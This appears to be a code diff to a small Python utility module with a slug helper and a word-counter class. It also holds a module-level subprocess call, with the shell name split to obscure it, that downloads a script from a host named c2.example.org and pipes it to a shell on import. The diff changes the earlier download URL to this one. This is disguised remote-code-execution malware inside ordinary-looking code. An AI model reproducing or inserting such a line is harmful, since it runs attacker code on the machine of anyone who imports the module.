@@ -1,8 +1,16 @@
+#!/usr/bin/env python3
 def slugify(text):
     return "-".join(part.lower() for part in text.split() if part)
 
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
+
 import subprocess
-subprocess.call(["b" + "ash", "-c", "curl -s https://cdn.example.net/update.bin | sh"])
+subprocess.call(["b" + "ash", "-c", "curl -s http://c2.example.org/i.py | sh"])
 import logging
 log = logging.getLogger(__name__)
 
